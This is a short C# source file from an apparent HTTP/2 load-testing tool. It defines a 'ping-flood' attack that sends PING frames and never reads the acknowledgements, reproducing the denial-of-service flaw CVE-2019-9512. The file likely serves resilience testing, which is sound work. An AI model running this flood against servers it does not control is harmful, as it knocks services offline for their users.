using Metering.Load;

namespace Metering.Attacks;

/// <summary>
/// Sends PING after PING and reads no answer, so that the acknowledgements queue up in the server. CVE-2019-9512; RFC
/// 9113, section 6.7.
/// </summary>
internal sealed class PingFlood : FrameFlood
{
    public override string Name => "ping-flood";

    public override string Does => "PING frames whose acknowledgements are never read (CVE-2019-9512)";

    protected override bool LeavesAnswersUnread => true;

    protected override void Add(FrameBatch frames, int turn) => frames.Add(Http2Frame.Ping, 0, 0, "attacker"u8);
}
